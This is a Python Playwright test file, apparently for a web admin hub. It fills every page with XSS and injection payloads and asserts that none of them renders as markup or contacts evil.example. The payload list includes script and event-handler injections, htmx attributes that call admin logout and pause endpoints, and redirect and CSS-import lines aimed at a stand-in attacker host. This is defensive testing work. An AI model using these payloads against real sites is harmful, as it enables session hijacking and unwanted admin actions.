"""Texts that try to become code, put through every door: on no page do they become more than text."""

# ruff: noqa: E501
from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest_asyncio
from playwright.async_api import Browser

from tests.browser.admin.conftest import Admin, open_admin

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><iframe srcdoc='<script>parent.alert(1)</script>'>",
    "</textarea><script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "javascript:alert(1)//",
    "{{7*7}}${alert(1)}<%= alert(1) %>",
    "<a href=javascript:alert(1) hx-get=/admin/logout hx-trigger=load>x</a>",
    "<div hx-on:click=alert(1) hx-on--load='alert(1)' data-hx-post=/admin/pause data-hx-trigger=load>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/><form action=//evil.example><button>Sign in</button>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;\u2028<script>alert(2)</script>",
]
# Elements that only a text turned into markup could have put there.
UNEXPECTED = (
    "document.querySelectorAll('img[src=x], svg[onload], [onerror], [onfocus], iframe[srcdoc], math, "
    "base, meta[http-equiv], main style, main script, [hx-on\\\\:click], [data-hx-post], a[href^=javascript]').length"
)


@pytest_asyncio.fixture(loop_scope="session")
async def hostile(tmp_path: Path) -> AsyncIterator[Admin]:
    """A hub whose products, people, events, traits and widgets all bear such texts."""
    async with open_admin(tmp_path, PAYLOADS) as opened:
        yield opened


async def test_no_page_runs_or_builds_anything(hostile: Admin, browser: Browser) -> None:
    async with hostile.signed_in(browser) as page:
        loads: list[str] = []
        page.on("request", lambda request: loads.append(request.url))
        seen = ""
        for path in await hostile.paths():
            await page.goto(f"/admin{path}")
            await page.wait_for_load_state("networkidle")
            assert await page.evaluate("window.reports") == [], path
            assert await page.evaluate(UNEXPECTED) == 0, path
            assert hostile.complaints == [], path
            assert "/login" not in page.url, path
            seen += await page.locator("body").inner_text()
        shown = sum(payload[:20] in seen for payload in PAYLOADS)
        assert shown > 10, "the texts must be on the pages for this to prove anything"
        assert not [url for url in loads if "evil.example" in url]
        assert not hostile.hub.workspace.pause_output
